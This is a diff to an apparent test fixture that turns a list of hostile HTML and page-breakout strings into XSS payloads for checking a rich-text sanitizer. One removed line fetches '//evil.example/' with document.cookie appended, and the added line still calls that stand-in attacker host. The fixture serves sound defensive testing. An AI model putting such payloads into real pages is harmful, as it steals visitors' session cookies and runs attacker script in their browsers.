@@ -1,8 +1,8 @@
 import sharp from 'sharp';
 import { hostileHtml } from '../../src/platform/rich-text/hostile-html.ts';
 
-/** Says that it ran where anyone can see it; and calls a host that is not ours. */
-const deeds = ['window.__owned=1', "fetch('//evil.example/?'+document.cookie)"];
+/** Says that it ran where anyone can see it, and calls a host that is not ours. */
+const deed = "(window.__owned=1,fetch('//evil.example/'))";
 
 /** Beyond what a cleaner meets: texts that break out of what a page is written into. */
 const breakouts = [
@@ -20,10 +20,10 @@ const breakouts = [
 ];
 
 /** A word by which the search finds them all. */
-export const plantedWord = '수상한글';
+const plantedWord = '수상한글';
 
-export const hostileTexts: readonly string[] = [...hostileHtml, ...breakouts].map((text, number) =>
-  text.toWellFormed().replaceAll(/alert\(1\)|alert&#40;1\)/g, deeds[number % deeds.length]!),
+export const hostileTexts: readonly string[] = [...hostileHtml, ...breakouts].map((text) =>
+  text.toWellFormed().replaceAll(/alert\(1\)|alert&#40;1\)/g, deed),
 );
 
 export interface Planted {
